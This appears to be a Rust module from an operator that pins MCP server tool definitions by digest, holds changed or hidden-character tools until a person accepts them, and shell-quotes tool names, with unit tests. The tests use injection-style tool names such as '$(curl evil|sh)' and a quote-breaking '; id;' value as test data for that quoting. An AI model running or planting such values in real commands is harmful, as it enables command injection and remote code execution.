//! Pinned definitions of an MCP server's tools: what becomes of a change, and what people read and write about it.

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::{
    hidden_text::{escape_hidden, is_hidden},
    tool_server::DiscoveredTool,
};

/// Value of `onChange` by which agents keep the accepted definitions.
pub const HOLD: &str = "Hold";
/// Value of `onChange` by which agents get what the server lists.
pub const ADOPT: &str = "Adopt";
/// Values of `onChange`.
pub const ON_CHANGE: &[&str] = &[HOLD, ADOPT];

/// Key of the definitions that wait until they are accepted, in the ConfigMap of a server's tools.
pub const HELD_KEY: &str = "held.json";

/// Annotation of a server by which a person accepts definitions: JSON with the digest of each tool, such as
/// `{"get_weather": "sha256:…"}`. The operator removes it.
pub const ACCEPT_TOOLS: &str = "recif.dev/accept-tools";

/// Text before the hexadecimal digits of a digest, where people read and write it.
const DIGEST_PREFIX: &str = "sha256:";

/// Reaction to a definition that changes at its server, and to a new tool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OnChange {
    /// It waits until it is accepted.
    Hold,
    /// It is taken.
    Adopt,
}

impl OnChange {
    /// Reads a value of `onChange`. One that this version does not know is the careful one.
    pub fn parse(text: &str) -> Self {
        if text == ADOPT { Self::Adopt } else { Self::Hold }
    }
}

/// Definition that waits, as the ConfigMap has it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct HeldTool {
    /// Name of the tool at the server.
    pub name: String,
    /// Reason why it waits, as in the status.
    pub reason: String,
    /// SHA-256 (hex) of the definition.
    pub digest: String,
    /// Cause of hidden text in it, such as `has the invisible character U+200B`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hides: Option<String>,
    /// Definition itself.
    #[serde(default)]
    pub definition: Value,
}

/// Returns a digest as people read and write it.
pub fn shown_digest(hex: &str) -> String {
    format!("{DIGEST_PREFIX}{hex}")
}

/// Returns the hexadecimal digits of a digest as people write it; `None` for another text.
pub fn digest_hex(shown: &str) -> Option<&str> {
    let hex = shown.strip_prefix(DIGEST_PREFIX)?;
    (hex.len() == 64 && hex.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'))).then_some(hex)
}

/// Returns the name of a tool for a sentence and a POSIX shell: as it is if it is plain, else in single quotes, within which a
/// shell expands nothing, with every character escaped that does not show.
pub fn shown_name(name: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:".contains(&byte);
    if !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain) {
        return name.to_owned();
    }
    let shown = escape_hidden(name).replace('\n', "\\u{a}").replace('\t', "\\u{9}");
    format!("'{}'", shown.replace('\'', r"'\''"))
}

/// Returns the argument by which `recif tools accept` accepts this definition (`hex`: its digest) of a tool, for a POSIX shell. A name
/// that cannot be typed, or would be read as an option, is left out: the digest is that of one tool alone.
pub fn accept_argument(name: &str, hex: &str) -> String {
    let is_unseen = |character: char| character.is_control() || is_hidden(character);
    match name.starts_with('-') || name.chars().any(is_unseen) {
        true => shown_digest(hex),
        false => format!("{}={}", shown_name(name), shown_digest(hex)),
    }
}

/// Reports whether `recif tools accept --all` takes the definition of this tool that waits: what hides text is to be named.
pub fn is_taken_with_all(tool: &DiscoveredTool) -> bool {
    tool.held_digest.is_some() && tool.held_reason.as_deref() != Some(crate::reason::HIDDEN_TEXT)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_digest_is_written_with_its_algorithm() {
        let hex = "0123456789abcdef".repeat(4);
        let shown = shown_digest(&hex);
        assert_eq!(digest_hex(&shown), Some(hex.as_str()));
        for other in [hex.as_str(), "sha256:", "sha256:12", &shown.to_uppercase(), &format!("{shown}0")] {
            assert_eq!(digest_hex(other), None, "{other}");
        }
    }

    #[test]
    fn a_name_is_one_word_of_a_shell_that_expands_nothing() {
        let digest = shown_digest("12");
        for (name, shown, argument) in [
            ("get_weather", "get_weather", "get_weather=sha256:12"),
            ("files/read.v2", "files/read.v2", "files/read.v2=sha256:12"),
            ("", "''", "''=sha256:12"),
            ("--all", "'--all'", digest.as_str()),
            ("-nother", "'-nother'", digest.as_str()),
            ("a b", "'a b'", "'a b'=sha256:12"),
            ("$(curl evil|sh)", "'$(curl evil|sh)'", "'$(curl evil|sh)'=sha256:12"),
            ("`id`\"", "'`id`\"'", "'`id`\"'=sha256:12"),
            ("a'; id; '", r"'a'\''; id; '\'''", r"'a'\''; id; '\'''=sha256:12"),
            ("日本", "'日本'", "'日本'=sha256:12"),
            ("get\u{200b}", "'get\\u{200b}'", digest.as_str()),
            ("a\nb\tc\u{1b}", "'a\\u{a}b\\u{9}c\\u{1b}'", digest.as_str()),
        ] {
            assert_eq!(
                (shown_name(name).as_str(), accept_argument(name, "12").as_str()),
                (shown, argument),
                "{name:?}"
            );
        }
    }

    #[test]
    fn what_this_version_does_not_know_is_held() {
        assert_eq!(["Adopt", "Hold", "Ask"].map(OnChange::parse), [OnChange::Adopt, OnChange::Hold, OnChange::Hold]);
    }
}
